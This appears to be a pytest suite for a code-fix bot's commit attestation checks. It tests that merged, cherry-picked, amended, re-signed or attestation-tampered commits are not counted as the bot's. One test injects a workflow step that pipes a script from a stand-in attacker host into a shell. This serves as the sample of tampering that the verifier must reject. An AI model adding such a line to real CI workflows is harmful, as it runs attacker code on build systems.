"""Is a commit the bot's? Real bundles, real git history; each test makes a commit that looks
like the bot's in one way (its attestation, its content) but was not built by the propose job.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from bot.provenance.signing.signers import KeySigner
from bot.provenance.verification.bot_commits import attested_bot_commit
from bot.provenance.verification.trust import KeyTrust, UnsafeAcceptUnsigned

CI = "gha-persist-credentials/ci"


@pytest.fixture
def made(bench, signing_key):
    """The ci remediation bundled, signed with ``signing_key`` and committed as propose does."""
    bundles = bench.bundle(KeySigner(signing_key))
    folder = next(path for rid, path in bundles.items() if rid.startswith(CI))
    base = bench.repo.head()
    head = bench.apply(folder)
    return bench.repo, base, head, KeyTrust(signing_key.public_key())


def _is_bots(repo, sha: str, trust) -> bool:
    return attested_bot_commit(repo.path, sha, trust, datetime.now(UTC))


def test_the_commit_propose_builds_is_the_bots(made) -> None:
    repo, _, head, trust = made
    assert _is_bots(repo, head, trust)


def test_without_a_signature_check_no_commit_is_the_bots(made) -> None:
    """``--allow-unsigned`` reads the statement without a signature: it proves no authorship."""
    repo, _, head, _ = made
    assert not _is_bots(repo, head, UnsafeAcceptUnsigned())


def test_a_merge_of_the_bot_commit_is_not_the_bots(made) -> None:
    """A person's merge commit brings in exactly the attested change and attestation."""
    repo, base, head, trust = made
    repo.git("checkout", "-q", "-B", "merged", base)
    repo.git("merge", "-q", "--no-ff", "-m", "merge the fix", head)
    assert not _is_bots(repo, repo.head(), trust)


def test_the_bot_commit_replayed_on_another_base_is_not_the_bots(made) -> None:
    """Cherry-picked onto a later commit: same change, same attestation, but its parent is not
    the base the attestation was made for."""
    repo, base, head, trust = made
    repo.git("checkout", "-q", "-B", "later", base)
    repo.write("NOTES.md", "unrelated\n")
    repo.commit("unrelated")
    repo.git("cherry-pick", head)
    assert not _is_bots(repo, repo.head(), trust)


def test_a_commit_that_adds_a_second_attestation_is_not_the_bots(made) -> None:
    repo, _, head, trust = made
    repo.git("reset", "-q", "--soft", f"{head}~1")
    repo.write(".mendbot/attestations/other.sigstore.json", "{}\n")
    sha = repo.commit("fix and a second attestation")
    assert not _is_bots(repo, sha, trust)


def test_a_commit_that_rewrites_an_existing_attestation_is_not_the_bots(made) -> None:
    """The attestation file exists at the parent already; the commit modifies it."""
    repo, _, head, trust = made
    attestation = repo.git("diff", "--name-only", f"{head}~1", head, "--", ".mendbot")
    repo.git("checkout", "-q", "-B", "again", head)
    repo.write(attestation, repo.git("show", f"{head}:{attestation}") + "\n")
    sha = repo.commit("touch the attestation")
    assert not _is_bots(repo, sha, trust)


def test_the_attested_change_plus_a_hand_edit_is_not_the_bots(made) -> None:
    """A person amends the bot's commit (same parent, same attestation) with one more line."""
    repo, _, head, trust = made
    repo.git("checkout", "-q", "-B", "amended", head)
    path = repo.path / ".github/workflows/ci.yml"
    path.write_text(path.read_text() + "      - run: curl evil.example | sh\n")
    repo.git("commit", "-q", "-a", "--amend", "--no-edit")
    assert not _is_bots(repo, repo.head(), trust)


def test_an_attestation_signed_by_another_key_is_not_the_bots(made) -> None:
    repo, _, head, _ = made
    other = KeyTrust(ec.generate_private_key(ec.SECP256R1()).public_key())
    assert not _is_bots(repo, head, other)


def test_an_expired_attestation_still_names_the_bot(made) -> None:
    """Expiry limits what may merge, not who made a commit long ago."""
    repo, _, head, trust = made
    later = datetime.now(UTC) + timedelta(days=400)
    assert attested_bot_commit(repo.path, head, trust, later)


def test_the_bots_commit_is_recognised_after_its_branch_was_renamed(made) -> None:
    """Authorship is about the commit and its parent, not the branch the analysis ran on."""
    repo, _, head, trust = made
    repo.git("branch", "-m", "main", "trunk")
    assert _is_bots(repo, head, trust)


def test_a_commit_that_also_deletes_an_attestation_it_does_not_attest_is_not_the_bots(
    bench, signing_key
) -> None:
    """A signed revert's commit may delete the attestation of what it reverts, because its
    statement attests that deletion; a bot commit that also deletes another remediation's
    attestation (which would make that one count as reverted) is no bot commit."""
    repo = bench.repo
    other = ".mendbot/attestations/gha-x--other-12345678.sigstore.json"
    repo.write(other, "{}\n")
    base = repo.commit("another remediation's attestation")
    bundles = bench.bundle(KeySigner(signing_key))
    folder = next(path for rid, path in bundles.items() if rid.startswith(CI))
    head = bench.apply(folder)
    trust = KeyTrust(signing_key.public_key())
    assert _is_bots(repo, head, trust)
    repo.git("checkout", "-q", "-B", "tampered", head)
    repo.git("rm", "-q", other)
    repo.git("commit", "-q", "--amend", "-m", "the fix, and drop the other attestation")
    assert repo.git("rev-parse", "HEAD^1") == base
    assert not _is_bots(repo, repo.head(), trust)
